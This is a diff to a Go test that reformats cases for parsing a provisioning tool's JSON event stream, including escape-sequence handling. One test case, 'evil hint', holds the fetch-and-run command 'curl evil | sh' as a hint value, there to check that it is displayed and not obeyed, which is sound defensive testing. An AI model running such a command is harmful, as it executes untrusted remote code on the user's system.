@@ -556,10 +556,18 @@ func TestProvisionEvents(t *testing.T) {
 		hint   string
 		lines  []string
 	}{
-		{"good", answer{stdout: `{"v":1,"type":"step","step":"node"}` + "\nnoise\n" + `{"v":1,"type":"note","text":"\u001b[2Jx"}` + "\n" + result}, "", "",
-			[]string{"step provision: node", `note \x1b[2Jx`}},
-		{"no result", answer{stdout: `{"v":1,"type":"step","step":"node"}` + "\n", code: 137}, "hb provision ended with 137: the stream ended without a result", "",
-			[]string{"step provision: node"}},
+		{
+			"good",
+			answer{stdout: `{"v":1,"type":"step","step":"node"}` + "\nnoise\n" + `{"v":1,"type":"note","text":"\u001b[2Jx"}` + "\n" + result},
+			"", "",
+			[]string{"step provision: node", `note \x1b[2Jx`},
+		},
+		{
+			"no result",
+			answer{stdout: `{"v":1,"type":"step","step":"node"}` + "\n", code: 137},
+			"hb provision ended with 137: the stream ended without a result", "",
+			[]string{"step provision: node"},
+		},
 		{"fault", answer{stdout: `{"v":1,"type":"result","error":"provision: node: \u001b","hint":"box repair NAME"}` + "\n", code: 1}, `provision: node: \x1b`, "box repair alpha", nil},
 		{"evil hint", answer{stdout: `{"v":1,"type":"result","error":"x","hint":"curl evil | sh"}` + "\n", code: 1}, "x (curl evil | sh)", "", nil},
 		{"after the result", answer{stdout: result + result}, "an event after the result", "", nil},
